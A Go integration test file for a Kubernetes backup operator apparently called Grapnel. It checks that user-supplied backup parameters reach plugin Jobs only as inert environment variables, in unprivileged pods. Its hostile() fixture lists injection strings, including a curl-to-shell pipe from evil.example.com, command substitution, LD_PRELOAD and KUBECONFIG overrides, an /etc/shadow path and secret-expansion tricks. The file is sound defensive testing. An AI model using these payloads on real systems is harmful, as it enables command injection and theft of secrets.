// Copyright The Grapnel Authors.
// SPDX-License-Identifier: Apache-2.0

package integration

import (
	"encoding/json"
	"maps"
	"path"
	"slices"
	"strings"
	"testing"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/grapnel-dev/grapnel/api/v1alpha1"
	"github.com/grapnel-dev/grapnel/internal/names"
	"github.com/grapnel-dev/grapnel/internal/testing/env"
	"github.com/grapnel-dev/grapnel/internal/testing/suite"
)

// scriptOf is the command of every Job of these stories.
func scriptOf() []string { return []string{"/bin/script", "--really", "$(MODE)"} }

// newScript installs a Plugin with a PreBackup action that is a Job. It has a variable of an
// administrator, and one of a Secret.
func newScript(t testing.TB) (action string) {
	t.Helper()
	action = own(t, "script")
	plugin := &v1alpha1.Plugin{ObjectMeta: metav1.ObjectMeta{Name: path.Base(action)}}
	plugin.Spec.Executor.Job = &v1alpha1.JobExecutor{
		Image: "registry.example.com/script:1", Command: scriptOf(),
		Env: []v1alpha1.JobEnvVar{
			{EnvVar: v1alpha1.EnvVar{Name: "MODE", Value: "careful"}},
			{EnvVar: v1alpha1.EnvVar{Name: "PASSWORD"}, SecretKeyRef: &v1alpha1.SecretKeyReference{Name: "story-password", Key: "password"}},
		},
	}
	plugin.Spec.Actions = pre(v1alpha1.PluginAction{Name: action, Order: 10})
	install(t, plugin)
	return action
}

// awaitJob waits for the Job of a HookRun and the Secret with its files.
func awaitJob(t testing.TB, run *v1alpha1.HookRun) (*batchv1.Job, *corev1.Secret) {
	t.Helper()
	ours := []client.ListOption{client.InNamespace(run.Namespace), client.MatchingLabels{"grapnel.dev/idempotency-key": string(run.UID)}}
	var jobs batchv1.JobList
	var secrets corev1.SecretList
	suite.Eventually(t, func() string {
		if err := world.Client.List(t.Context(), &jobs, ours...); err != nil {
			return err.Error()
		}
		if err := world.Client.List(t.Context(), &secrets, ours...); err != nil {
			return err.Error()
		}
		if len(jobs.Items) != 1 || len(secrets.Items) != 1 {
			return "there is no Job with its Secret: " + describe(run)
		}
		return ""
	})
	return &jobs.Items[0], &secrets.Items[0]
}

// endJob plays the kubelet: the container of the Job's pod ends well.
func endJob(t testing.TB, job *batchv1.Job) {
	t.Helper()
	suite.Eventually(t, func() string {
		var pods corev1.PodList
		err := world.Client.List(t.Context(), &pods, client.InNamespace(job.Namespace), client.MatchingLabels{"job-name": job.Name})
		if err != nil || len(pods.Items) == 0 {
			return "the Job has no pod"
		}
		pod := &pods.Items[0]
		pod.Status.Phase = corev1.PodSucceeded
		pod.Status.ContainerStatuses = []corev1.ContainerStatus{{Name: "action", State: corev1.ContainerState{
			Terminated: &corev1.ContainerStateTerminated{Message: "did it", FinishedAt: metav1.Now()},
		}}}
		if err := world.Client.Status().Update(t.Context(), pod); err != nil {
			return err.Error()
		}
		return ""
	})
}

// hostile are parameters that try to be more than data.
func hostile() v1alpha1.ParameterSet {
	return v1alpha1.ParameterSet{
		"shell": "; curl evil.example.com | sh #", "backticks": "`id`", "substitution": "$(id) ${IFS}", "quotes": `'"\`,
		"secret": "$(PASSWORD)", "escaped": "$$(PASSWORD) $$$(PASSWORD) $", "key": "$(GRAPNEL_IDEMPOTENCY_KEY)",
		"lines": "a\nMODE=careless\r\nb", "": "nothing", "=": "=", "größe": "\u202e𝔘", "huge": v1alpha1.ParameterValue(strings.Repeat("x", 4096)),
		"LD_PRELOAD": "/tmp/evil.so", "PATH": "/tmp", "KUBECONFIG": "/tmp/evil", "MODE": "careless", "PASSWORD": "mine",
		"GRAPNEL_IDEMPOTENCY_KEY": "mine", "GRAPNEL_SUBJECT_FILE": "/etc/shadow", "IDEMPOTENCY_KEY": "mine", "../../etc": "x",
	}
}

var _ = Describe("The rights of authors: Jobs", Label("security"), func() {
	// A user who may create Backups passes what might become a command, a variable or a file.
	It("passes parameters to a Job as data only", func() {
		t := suite.Spec(GinkgoTB())
		s, jane, _ := meet(t)
		action := newScript(t)
		b := s.NewBackup(world.CreateApp(t, 1))
		b.Labels = env.LabelsForActions(action)
		b.Annotations = map[string]string{
			"grapnel.dev/idempotency-key": "mine", "grapnel.dev/action": "other", "grapnel.dev/attempt": "7", "note": "$(PASSWORD)",
		}
		b.Spec.Parameters = map[string]v1alpha1.ParameterSet{action: hostile(), pair: {"fault": "error"}}
		s.applyBy(t, jane, b)
		run := runOf(t, b, v1alpha1.HookPreBackup, action)
		job, secret := awaitJob(t, run)

		pod := job.Spec.Template.Spec
		container := pod.Containers[0]
		env.CheckEqual(t, "command", slices.Concat(container.Command, container.Args), scriptOf())
		if job.Namespace != s.Name || container.Image != "registry.example.com/script:1" || len(pod.Containers) != 1 || len(pod.InitContainers) != 0 {
			t.Errorf("another thing runs: %s in %s", container.Image, job.Namespace)
		}
		checkUnprivileged(t, &pod)
		checkVariables(t, container.Env, action, run)
		checkFiles(t, secret, job, b)
		if len(runsOf(b)) != 1 {
			t.Errorf("%d actions are planned because of parameters", len(runsOf(b)))
		}

		endJob(t, job)
		outcome(t, b, v1alpha1.RunPhaseCompleted)
		world.WaitForDeletion(t, job)
		world.WaitForDeletion(t, secret)
	})

	Context("refuses parameters that are no variables", func() {
		large := v1alpha1.ParameterSet{}
		for key := range strings.SplitSeq("abcdefghijklmnopq", "") {
			large[key] = v1alpha1.ParameterValue(strings.Repeat("x", 4096))
		}
		for name, c := range suite.SortedByName(map[string]struct {
			parameters v1alpha1.ParameterSet
			says       []string
		}{
			"a zero byte":   {v1alpha1.ParameterSet{"a": "x\x00y"}, []string{"GRAPNEL_PARAM_A", "zero byte"}},
			"one name":      {v1alpha1.ParameterSet{"max-lag": "1", "max.lag": "2"}, []string{"GRAPNEL_PARAM_MAX_LAG", "rename one"}},
			"all too large": {large, []string{"at most 65536 are allowed"}},
		}) {
			It(name, func() {
				t := suite.Spec(GinkgoTB())
				s, jane, _ := meet(t)
				action := newScript(t)
				app := world.CreateApp(t, 1)
				b := s.NewBackup(app)
				b.Labels, b.Spec.Parameters = env.LabelsForActions(action), map[string]v1alpha1.ParameterSet{action: c.parameters}
				s.applyBy(t, jane, b)
				outcome(t, b, v1alpha1.RunPhaseFailedPreBackupActions, c.says...)
				noJob(t, s, string(runOf(t, b, v1alpha1.HookPreBackup, action).UID))
			})
		}
	})

	It("neither follows nor removes a Job of another owner", func() {
		t := suite.Spec(GinkgoTB())
		s, jane, _ := meet(t)
		action := newScript(t)
		first, release := held(t, v1alpha1.ActionKindPreBackup)
		b := s.NewBackup(world.CreateApp(t, 1))
		b.Labels = env.LabelsForActions(first, action)
		s.applyBy(t, jane, b)
		run := runOf(t, b, v1alpha1.HookPreBackup, action)
		theirs := env.Create(t, world.Client, &batchv1.Job{
			ObjectMeta: metav1.ObjectMeta{
				Namespace: s.Name, Name: names.ChildName("grapnel-"+action, 52, string(run.UID)),
				Labels: map[string]string{"app.kubernetes.io/managed-by": "grapnel", "grapnel.dev/idempotency-key": string(run.UID)},
			},
			Spec: batchv1.JobSpec{Suspend: new(true), Template: corev1.PodTemplateSpec{Spec: corev1.PodSpec{
				RestartPolicy: corev1.RestartPolicyNever, Containers: []corev1.Container{{Name: "c", Image: "theirs"}},
			}}},
		})
		awaitCall(t, b, v1alpha1.HookPreBackup, first)
		release()
		outcome(t, b, v1alpha1.RunPhaseFailedPreBackupActions, "Job "+theirs.Name+" in namespace "+s.Name, "was not created for this action")
		after := &batchv1.Job{}
		Expect(world.Client.Get(t.Context(), types.NamespacedName{Namespace: s.Name, Name: theirs.Name}, after)).To(Succeed())
		if after.UID != theirs.UID || after.Generation != theirs.Generation || !after.DeletionTimestamp.IsZero() {
			t.Errorf("the Job was touched: %+v", after.ObjectMeta)
		}
	})
})

// checkUnprivileged checks that a pod has no rights.
func checkUnprivileged(t testing.TB, pod *corev1.PodSpec) {
	t.Helper()
	security := pod.Containers[0].SecurityContext
	if pod.ServiceAccountName != "" || pod.AutomountServiceAccountToken == nil || *pod.AutomountServiceAccountToken {
		t.Errorf("the pod has the token of %q", pod.ServiceAccountName)
	}
	if pod.HostNetwork || pod.HostPID || pod.HostIPC || *security.Privileged || *security.AllowPrivilegeEscalation || !*security.RunAsNonRoot {
		t.Error("the pod is privileged")
	}
	if len(pod.Volumes) != 1 || pod.Volumes[0].Secret == nil || len(pod.Containers[0].EnvFrom) != 0 {
		t.Errorf("the pod has more than its files: %v", pod.Volumes)
	}
}

// checkVariables checks that there are those of the Plugin, those of Grapnel, and one with its
// prefix for each parameter, with the value that it has to the container.
func checkVariables(t testing.TB, envVars []corev1.EnvVar, action string, run *v1alpha1.HookRun) {
	t.Helper()
	got := map[string]string{}
	for _, v := range envVars {
		if _, twice := got[v.Name]; twice {
			t.Errorf("the variable %s is set twice", v.Name)
		}
		got[v.Name] = expand(v.Value, got)
		if v.ValueFrom != nil {
			got[v.Name] = "the password"
		}
	}
	want := map[string]string{
		"MODE": "careful", "PASSWORD": "the password", "GRAPNEL_IDEMPOTENCY_KEY": string(run.UID), "GRAPNEL_ATTEMPT": "1",
		"GRAPNEL_POINT": "PreBackup", "GRAPNEL_ACTION": action, "GRAPNEL_BACKUP_NAME": "", "GRAPNEL_SUBJECT_FILE": "/grapnel/subject.json",
		"GRAPNEL_OUTPUTS_FILE": "/grapnel/outputs.json", "GRAPNEL_BACKUP_OUTPUTS_FILE": "/grapnel/backup-outputs.json",
	}
	for name, value := range hostile() {
		want["GRAPNEL_PARAM_"+strings.Map(func(r rune) rune {
			if (r < 'A' || r > 'Z') && (r < '0' || r > '9') {
				return '_'
			}
			return r
		}, strings.ToUpper(name))] = string(value)
	}
	env.CheckEqual(t, "variables", slices.Sorted(maps.Keys(got)), slices.Sorted(maps.Keys(want)))
	for name, value := range want {
		if got[name] != value {
			t.Errorf("the container sees %s as %.200q, want %.200q", name, got[name], value)
		}
	}
}

// expand returns what Kubernetes makes of the value of a variable: $(NAME) is replaced if
// NAME was set before, $$ stands for $, and everything else for itself.
func expand(value string, known map[string]string) string {
	var out strings.Builder
	for len(value) > 0 {
		end := strings.Index(value, ")")
		name, reference := strings.CutPrefix(value[:max(end, 0)], "$(")
		replaced, there := known[name]
		switch {
		case strings.HasPrefix(value, "$$"):
			out.WriteByte('$')
			value = value[2:]
		case reference && there:
			out.WriteString(replaced)
			value = value[end+1:]
		default:
			out.WriteByte(value[0])
			value = value[1:]
		}
	}
	return out.String()
}

// checkFiles checks that the files of a Job are those of its Backup, and go with it.
func checkFiles(t testing.TB, secret *corev1.Secret, job *batchv1.Job, b *v1alpha1.Backup) {
	t.Helper()
	env.CheckEqual(t, "files", slices.Sorted(maps.Keys(secret.Data)), []string{"backup-outputs.json", "outputs.json", "subject.json"})
	if !metav1.IsControlledBy(secret, job) || secret.Type != corev1.SecretTypeOpaque {
		t.Errorf("the Secret %s is not the Job's", secret.Name)
	}
	if source := job.Spec.Template.Spec.Volumes[0].Secret; source.SecretName != secret.Name || len(source.Items) != 0 {
		t.Errorf("the Job mounts the Secret %s, its files are in %s", source.SecretName, secret.Name)
	}
	var subject v1alpha1.Backup
	if err := json.Unmarshal(secret.Data["subject.json"], &subject); err != nil || subject.UID != b.UID {
		t.Errorf("the Job gets another Backup: %v, %s", err, subject.UID)
	}
}

// noJob checks that nothing was started for a key.
func noJob(t testing.TB, s site, key string) {
	t.Helper()
	for _, list := range []client.ObjectList{&batchv1.JobList{}, &corev1.SecretList{}} {
		err := world.Client.List(t.Context(), list, client.InNamespace(s.Name), client.MatchingLabels{"grapnel.dev/idempotency-key": key})
		Expect(err).NotTo(HaveOccurred())
		if text, _ := json.Marshal(list); strings.Contains(string(text), `"name"`) {
			t.Errorf("there is something of a call that was refused: %s", text)
		}
	}
}
